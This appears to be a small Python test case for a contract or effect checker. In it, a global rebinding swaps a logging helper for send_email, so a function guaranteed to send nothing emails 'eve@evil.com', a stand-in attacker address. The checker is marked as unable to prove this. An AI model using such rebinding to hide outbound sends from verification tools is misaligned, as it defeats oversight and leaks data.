# not proved: which helper runs changes
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def swap():
    global helper
    helper = send_email


def helper(a, b):
    log(a)


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    swap()
    helper("eve@evil.com", "x")
